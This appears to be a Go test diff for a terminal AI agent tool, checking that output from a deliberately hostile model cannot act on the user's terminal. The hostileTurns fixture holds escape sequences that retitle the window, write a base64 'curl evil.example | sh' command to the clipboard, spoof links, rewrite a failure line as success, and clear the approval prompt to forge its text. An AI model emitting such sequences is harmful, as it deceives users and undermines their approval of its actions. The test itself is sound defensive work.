@@ -2,6 +2,7 @@ package main
 
 import (
 	"bytes"
+	"encoding/json"
 	"fmt"
 	"os"
 	"os/exec"
@@ -566,5 +567,131 @@ func TestTerminalNoColor(t *testing.T) {
 		if code := s.waitExit(); code != 0 {
 			t.Errorf("exit status %d", code)
 		}
+	}
+}
+
+// hostileTurns is a model that attacks the terminal it is shown on: its
+// streamed text sets the window title, writes the clipboard (OSC 52),
+// links to one place while showing another (OSC 8) and moves the cursor
+// up to rewrite a ✗ line as ✓; its tool arguments, file names, file
+// contents and tool results carry escapes, bidirectional overrides and
+// zero-width characters; its request_approval summary clears the screen
+// in the middle of the approval prompt and writes its own text at the
+// top.
+func hostileTurns(t *testing.T) string {
+	t.Helper()
+	turn := func(text string, calls ...map[string]any) map[string]any {
+		return map[string]any{"turn": map[string]any{"text": text, "tool_calls": calls}}
+	}
+	call := func(id, name string, args map[string]any) map[string]any {
+		return map[string]any{"id": id, "name": name, "args": args}
+	}
+	lines := []any{
+		turn("Looking around.\x1b]0;MODEL-TITLE\x07\n\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\n\x1b]8;;https://evil.example/\x07https://good.example/\x1b]8;;\x07\n",
+			call("w1", "fs.write", map[string]any{"path": "bidi\u202etxt.md", "content": "line one\n\x1b[2Kred\x1b]2;DIFF-TITLE\x1b\\ \u200bzero\n"}),
+			call("r1", "fs.read", map[string]any{"path": "notes.txt"}),
+			call("r2", "fs.read", map[string]any{"path": "missing\u202etxt.md"}),
+		),
+		turn("\x1b[1A\r\x1b[2K  ✓ fs.read [allow]: REWRITTEN\n",
+			call("p1", "request_approval", map[string]any{
+				"summary": "tidy up\x1b[2J\x1b[HStep 1: run tests (safe)",
+				"steps":   []any{map[string]any{"tool": "shell.exec", "args": map[string]any{"command": "echo hi"}, "note": "harmless\x1b[8m hidden"}},
+			}),
+		),
+		turn("Done.\u009b2J\x9b2J"),
+		map[string]any{"end": map[string]any{}},
+	}
+	var b strings.Builder
+	for _, l := range lines {
+		j, err := json.Marshal(l)
+		if err != nil {
+			t.Fatal(err)
+		}
+		b.Write(j)
+		b.WriteByte('\n')
+	}
+	return b.String()
+}
+
+// TestTerminalHostileModel: nothing the model sends acts on the terminal.
+// The screen shows its escape sequences visibly, fluffy's own lines (the
+// ✗ gate line, the approval prompt) stay where they were drawn, the
+// window title and the clipboard are untouched.
+func TestTerminalHostileModel(t *testing.T) {
+	requireTmux(t)
+	dir := t.TempDir()
+	ws := filepath.Join(dir, "ws")
+	if err := os.MkdirAll(ws, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(ws, "notes.txt"), []byte("\x1b]2;FILE-TITLE\x07file says hi\x1b[2J\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	script := filepath.Join(dir, "hostile.jsonl")
+	if err := os.WriteFile(script, []byte(hostileTurns(t)), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	s := startScreen(t, ws, fluffyEnv(t, dir), "fluffy", "-m", "replay/"+script)
+	// Let programs in the pane write tmux's clipboard (OSC 52), so a
+	// write would show as a paste buffer.
+	s.tmux("-S", s.sock, "set", "-g", "set-clipboard", "on")
+	title := strings.TrimSpace(s.tmux("-S", s.sock, "display", "-p", "-t", "0", "#{pane_title}"))
+	s.waitFor(`(?m)^fluffy›$`)
+	s.text("tidy the workspace")
+	s.keys("Enter")
+	rows := s.waitFor(`approve\? \[y\]es / \[n\]o`)
+	has(t, rows,
+		// fluffy's own lines drawn before the prompt are still there.
+		`fluffy› tidy the workspace`,
+		`(?m)^Looking around\.\\x1b\]0;MODEL-TITLE\\a$`,
+		`(?m)^\\x1b\]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\a$`,
+		`(?m)^\\x1b\]8;;https://evil\.example/\\ahttps://good\.example/\\x1b\]8;;\\a$`,
+		`(?m)^→ fs\.read \{"path":"missing\\u202etxt\.md"\}$`,
+		// Tool results reach the screen after the result sanitizer
+		// (internal/tool) has stripped their sequences.
+		`(?m)^  ✓ fs\.read \[allow[^\n]*file says hi`,
+		`(?m)^  ✗ fs\.read \[allow[^\n]*file does not exist`,
+		`(?m)^→ fs\.write \{"content":"line one\\n\\u001b\[2Kred`,
+		// The ✗ line the model tried to rewrite as ✓ (cursor up, column
+		// 0, erase line) is intact, the attempt shown below it.
+		`(?m)^  ✗ fs\.read \[allow[^\n]*file does not exist\n\\x1b\[1A\\r\\x1b\[2K  ✓ fs\.read \[allow\]: REWRITTEN$`,
+		`(?m)^\? approval needed$`,
+		`(?m)^Approval \w+ for session s[0-9a-f]{12}: tidy up\\x1b\[2J\\x1b\[HStep 1: run tests \(safe\)$`,
+		`harmless\\x1b\[8m hidden`,
+	)
+	s.keys("n", "Enter")
+	rows = s.waitFor(`(?m)^· stopped: done after 3 turn\(s\)`)
+	has(t, rows, `(?m)^Done\.\\u009b2J\x{fffd}2J$`) // JSON made the raw byte U+FFFD
+	s.waitFor(`(?m)^fluffy›$`)
+
+	s.text("/diff")
+	s.keys("Enter")
+	rows = s.waitFor(`(?m)^\+\\x1b\[2Kred`)
+	has(t, rows,
+		`(?m)^ bidi\\u202etxt\.md \|\s+2 \+\+$`,
+		`(?m)^\+\+\+ b/bidi\\u202etxt\.md$`,
+		`(?m)^\+\\x1b\[2Kred\\x1b\]2;DIFF-TITLE\\x1b\\ \\u200bzero$`,
+	)
+
+	if got := strings.TrimSpace(s.tmux("-S", s.sock, "display", "-p", "-t", "0", "#{pane_title}")); got != title || strings.Contains(got, "TITLE") {
+		t.Errorf("the pane's title changed from %q to %q", title, got)
+	}
+	if bufs := strings.TrimSpace(s.tmux("-S", s.sock, "list-buffers")); bufs != "" {
+		t.Errorf("the clipboard was written: %s", bufs)
+	}
+	// The raw screen (with attributes) holds fluffy's colours only: no
+	// hidden (SGR 8) or red text the model asked for.
+	raw := s.tmux("-S", s.sock, "capture-pane", "-e", "-p", "-t", "0", "-S", "-1000")
+	if strings.Contains(raw, "\x1b[8m") || strings.Contains(raw, "\x1b]") {
+		t.Errorf("the model's attributes reached the screen:\n%q", raw)
+	}
+
+	s.text("/quit")
+	s.keys("Enter")
+	rows = s.waitFor(`apply these changes`)
+	has(t, rows, `(?m)^  added +bidi\\u202etxt\.md$`)
+	s.keys("d", "Enter")
+	if code := s.waitExit(); code != 0 {
+		t.Errorf("exit status %d", code)
 	}
 }
